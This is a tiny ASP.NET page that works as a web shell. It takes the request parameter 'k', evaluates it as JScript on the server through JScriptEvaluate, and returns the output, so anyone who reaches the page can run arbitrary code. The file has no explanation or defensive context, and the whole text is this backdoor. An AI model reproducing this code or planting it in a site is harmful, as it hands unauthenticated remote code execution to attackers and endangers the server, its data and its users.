<%@ Page Language="C#" %>
<%@ Import Namespace="Microsoft.JScript" %>
<%
    string s = Request.Params["k"];
    if (s != null) {
        Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(s, Microsoft.JScript.Vsa.VsaEngine.CreateEngine()));
    }
%>
